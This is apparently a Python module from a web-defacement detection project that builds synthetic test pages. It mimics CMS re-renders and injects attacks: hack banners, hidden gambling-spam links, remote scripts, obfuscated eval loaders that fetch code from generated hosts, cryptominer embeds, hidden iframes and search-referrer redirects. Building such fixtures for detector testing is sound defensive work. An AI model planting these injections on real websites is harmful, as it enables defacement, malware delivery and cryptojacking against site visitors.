@@ -1,0 +1,195 @@
+"""Synthetic evaluation cases built from real pages: dynamic re-renders and injected attacks.
+
+Used by the tests and `bench/deface.py`. A legitimate page is re-rendered the way CMSs do (date/time
+line, visit counter, CSRF/VIEWSTATE tokens, nonces, cache-busting `?v=`, a rotating and reordered news
+list); attacks are injected into such a re-render the way real intruders do. Everything is seeded, so a
+case is reproducible from (page, kind, seed).
+"""
+
+from __future__ import annotations
+
+import base64
+import random
+import re
+from collections.abc import Callable
+
+WEEKDAYS = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday", "Senin", "Selasa",
+            "ថ្ងៃច័ន្ទ", "ថ្ងៃអង្គារ"]
+MONTHS = ["January", "February", "March", "April", "May", "June", "July", "August", "September", "October",
+          "November", "December", "មករា", "កុម្ភៈ"]
+NEWS_POOL = [
+    "Minister receives delegation on trade cooperation", "Workshop on digital government services opens",
+    "Ministry publishes quarterly statistics report", "Public consultation on the new regulation",
+    "Press release: national holiday schedule", "Training for provincial officers concludes",
+    "Call for applications: scholarship programme", "Joint committee meeting on border trade",
+    "ក្រសួងរៀបចំសិក្ខាសាលាស្តីពីរដ្ឋាភិបាលឌីជីថល", "Kunjungan kerja ke dinas provinsi",
+    "Announcement of the tender results", "Launch of the online business registration portal",
+]
+GROUPS = ["Cyb3r Gh0st Team", "GARUDA SECURITY HACKER", "Khmer Xploit Crew", "Team_Anon404", "Mr.Sn00p",
+          "Bangladesh Black Hat", "Tr4ck3r Cyber Army", "Ph4nt0m Squad", "Jombang XPL", "Vn_Hackerz"]
+BANNERS = ["Hacked by {g}", "HACKED BY {g} - your security is low", "H4ck3d by {g}", "Diretas oleh {g}",
+           "Website ini di hack oleh {g}", "Trang web đã bị hack bởi {g}", "เว็บไซต์นี้ถูกแฮกโดย {g}",
+           "Site hackeado por {g}", "Bu site {g} tarafından hacklendi", "គេហទំព័រនេះត្រូវបានហេកដោយ {g}",
+           "تم اختراق الموقع بواسطة {g}", "Defaced by {g} | Greetz: all members", "Owned by {g}"]
+SPAM_WORDS = ["slot gacor", "judi online", "togel online", "situs slot", "slot maxwin", "bandar togel",
+              "link alternatif slot", "rtp slot hari ini", "สล็อตเว็บตรง", "บาคาร่าออนไลน์", "nhà cái uy tín",
+              "nổ hũ đổi thưởng", "កាស៊ីណូអនឡាញ", "casino online", "agen sbobet", "slot88 resmi"]
+SPAM_TLDS = ["com", "net", "xyz", "site", "online", "top", "vip", "io", "org", "info"]
+HIDE_STYLES = ["display:none", "display: none;", "position:absolute;left:-9999px;top:-9999px",
+               "font-size:0px;line-height:0", "height:0;overflow:hidden", "visibility:hidden",
+               "position:absolute; top:-1200px", "opacity:0;position:absolute", "text-indent:-5000px"]
+ATTACKS = ("banner", "hidden_spam", "external_script", "obfuscated_script", "miner", "hidden_iframe",
+           "redirect", "title")
+
+
+def _word(rng: random.Random, n: int = 8) -> str:
+    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(n))
+
+
+def _domain(rng: random.Random) -> str:
+    return f"{_word(rng, rng.randint(5, 11))}{rng.choice(['', '88', '777', '-id', ''])}.{rng.choice(SPAM_TLDS)}"
+
+
+def _insert_after_body(html: str, snippet: str) -> str:
+    match = re.search(r"<body[^>]*>", html, re.I)
+    return html[:match.end()] + snippet + html[match.end():] if match else snippet + html
+
+
+def _insert_before(html: str, tag: str, snippet: str) -> str:
+    pos = html.lower().rfind(tag)
+    return html[:pos] + snippet + html[pos:] if pos >= 0 else html + snippet
+
+
+def _insert_head(html: str, snippet: str) -> str:
+    pos = html.lower().find("</head>")
+    return html[:pos] + snippet + html[pos:] if pos >= 0 else snippet + html
+
+
+def render(html: str, rng: random.Random) -> str:
+    """One dynamic re-render of a legitimate page (what a CMS serves on the next load)."""
+    day, month = rng.choice(WEEKDAYS), rng.choice(MONTHS)
+    top = (f'<div class="topbar"><span class="date">{day}, {rng.randint(1, 28)} {month} {rng.randint(2024, 2026)} '
+           f'{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}</span> <span class="visits">Visitors: '
+           f'{rng.randint(1000, 999999):,}</span></div>')
+    items = rng.sample(NEWS_POOL, 5)
+    news = "".join(f'<li><a href="/news/{rng.randint(100, 999)}.html">{t}</a> '
+                   f'<small>{rng.randint(1, 28)}/{rng.randint(1, 12)}/2026</small></li>' for t in items)
+    token = base64.b64encode(rng.randbytes(24)).decode()
+    state = base64.b64encode(rng.randbytes(rng.randint(60, 120))).decode()
+    tail = (f'<div class="latest"><h4>Latest news</h4><ul class="news">{news}</ul></div>'
+            f'<form method="post" action="/search"><input type="hidden" name="csrf_token" value="{token}">'
+            f'<input type="hidden" name="__VIEWSTATE" value="{state}"></form>'
+            f'<script>var csrf="{token}"; var t0={rng.randint(10**9, 10**10)};</script>')
+    html = re.sub(r'((?:src|href)="[^"?#]+\.(?:css|js))(?:\?[^"]*)?"',
+                  lambda m: f'{m.group(1)}?v={rng.randint(1000, 99999)}"', html)
+    return _insert_before(_insert_after_body(html, top), "</body", tail)
+
+
+def _spam_links(rng: random.Random, n: int) -> str:
+    return "".join(f'<a href="https://{_domain(rng)}/">{rng.choice(SPAM_WORDS)}</a> ' for _ in range(n))
+
+
+def inject(html: str, kind: str, rng: random.Random) -> str:
+    """Inject one attack of `kind` into a page, as attackers do."""
+    return _INJECTORS[kind](html, rng)
+
+
+def _banner(html: str, rng: random.Random) -> str:
+    text = rng.choice(BANNERS).format(g=rng.choice(GROUPS))
+    style = rng.choice(['style="background:#000;color:red;text-align:center"', 'class="alert"', ""])
+    return _insert_after_body(html, f"<div {style}><h1>{text}</h1><marquee>We are everywhere</marquee></div>")
+
+
+def _hidden_spam(html: str, rng: random.Random) -> str:
+    links = _spam_links(rng, rng.randint(3, 25))
+    how = rng.randrange(3)
+    if how == 0:
+        block = f'<div style="{rng.choice(HIDE_STYLES)}">{links}</div>'
+    elif how == 1:
+        cls = _word(rng, 6)
+        block = f'<style>.{cls}{{{rng.choice(HIDE_STYLES)}}}</style><div class="{cls}">{links}</div>'
+    else:
+        block = f'<p hidden>{links}</p>' if rng.random() < 0.3 else f'<span style="font-size:0">{links}</span>'
+    where = rng.random()
+    return _insert_before(html, "</body", block) if where < 0.6 else _insert_after_body(html, block)
+
+
+def _external_script(html: str, rng: random.Random) -> str:
+    path = rng.choice(["js/jquery.min.js", "analytics.js", "cdn/app.js", "wp-includes/js/l.js", "s.js"])
+    tag = f'<script src="https://{_domain(rng)}/{path}"></script>'
+    return _insert_head(html, tag) if rng.random() < 0.5 else _insert_before(html, "</body", tag)
+
+
+def _obfuscated(html: str, rng: random.Random) -> str:
+    target = f"https://{_domain(rng)}/go.php"
+    payload = (f"var s=document.createElement('script');s.src='{target}';"
+               f"document.getElementsByTagName('head')[0].appendChild(s);var k='{_word(rng, 40)}';")
+    style = rng.randrange(4)
+    if style == 0:
+        code = "eval(unescape('" + "".join(f"%{ord(ch):02x}" for ch in payload) + "'));"
+    elif style == 1:
+        code = f"eval(atob('{base64.b64encode(payload.encode()).decode()}'));"
+    elif style == 2:
+        code = "eval(String.fromCharCode(" + ",".join(str(ord(ch)) for ch in payload) + "));"
+    else:
+        names = [f"_0x{rng.randrange(16**5):05x}" for _ in range(6)]
+        hexed = "".join(f"\\x{ord(ch):02x}" for ch in payload)
+        code = (f"var {names[0]}=['{hexed}'];(function({names[1]},{names[2]}){{var {names[3]}=function({names[4]})"
+                f"{{while(--{names[4]}){{{names[1]}['push']({names[1]}['shift']());}}}};}}({names[0]},0x1f));"
+                f"var {names[5]}=function(a){{return {names[0]}[a];}};window['eval']({names[5]}(0));")
+    return _insert_before(html, "</body", f"<script>{code}</script>")
+
+
+def _miner(html: str, rng: random.Random) -> str:
+    key = _word(rng, 32)
+    variants = [
+        f'<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>var miner=new CoinHive.Anonymous('
+        f"'{key}',{{throttle:0.3}});miner.start();</script>",
+        f'<script src="https://authedmine.com/lib/authedmine.min.js"></script><script>var m=new CoinHive.Anonymous('
+        f"'{key}');m.start();</script>",
+        f'<script src="https://www.coinimp.com/scripts/min.js"></script><script>var _client=new Client.Anonymous('
+        f"'{key}',{{throttle:0.5,c:'w'}});_client.start();</script>",
+        f'<script src="https://crypto-loot.org/lib/miner.min.js"></script><script>var miner=new CRLT.Anonymous('
+        f"'{key}');miner.start();</script>",
+        f'<script src="/wp-content/{_word(rng, 5)}.js"></script><script>var w=new Worker("/cn.js");'
+        f"w.postMessage({{algo:'cryptonight',pool:'wss://{_domain(rng)}:443',wallet:'{key}'}});</script>",
+    ]
+    return _insert_before(html, "</body", rng.choice(variants))
+
+
+def _hidden_iframe(html: str, rng: random.Random) -> str:
+    src = f"http://{_domain(rng)}/{_word(rng, 5)}.php"
+    attrs = rng.choice(['width="1" height="1" frameborder="0"', 'width="0" height="0"',
+                        'style="display:none"', 'style="visibility:hidden;position:absolute"',
+                        'width="1" height="1" style="border:0"'])
+    return _insert_before(html, "</body", f'<iframe src="{src}" {attrs}></iframe>')
+
+
+def _redirect(html: str, rng: random.Random) -> str:
+    target = f"https://{_domain(rng)}/"
+    style = rng.randrange(3)
+    if style == 0:
+        return _insert_head(html, f'<meta http-equiv="refresh" content="{rng.randint(0, 5)};url={target}">')
+    if style == 1:
+        call = rng.choice([f'window.location.href="{target}"', f"location.replace('{target}')",
+                           f'window.location = "{target}"'])
+        return _insert_head(html, f"<script>{call};</script>")
+    return _insert_head(html, "<script>var r=document.referrer;if(r.indexOf('google')>=0||r.indexOf('bing')>=0)"
+                              f"{{window.location.href='{target}';}}</script>")
+
+
+def _title(html: str, rng: random.Random) -> str:
+    new = rng.choice([f"SLOT GACOR {rng.randint(88, 999)} - Situs Judi Online Terpercaya",
+                      f"Hacked by {rng.choice(GROUPS)}", "สล็อตเว็บตรง แตกง่าย เว็บพนันออนไลน์",
+                      "Nhà cái uy tín - Cá cược bóng đá", f"Buy Cheap Viagra Online - {_word(rng, 6)}",
+                      "TOGEL HONGKONG HARI INI - BANDAR TOGEL RESMI"])
+    if re.search(r"<title[^>]*>.*?</title>", html, re.I | re.S):
+        return re.sub(r"(<title[^>]*>).*?(</title>)", lambda m: m.group(1) + new + m.group(2), html, count=1,
+                      flags=re.I | re.S)
+    return _insert_head(html, f"<title>{new}</title>")
+
+
+_INJECTORS: dict[str, Callable[[str, random.Random], str]] = {
+    "banner": _banner, "hidden_spam": _hidden_spam, "external_script": _external_script,
+    "obfuscated_script": _obfuscated, "miner": _miner, "hidden_iframe": _hidden_iframe, "redirect": _redirect,
+    "title": _title}
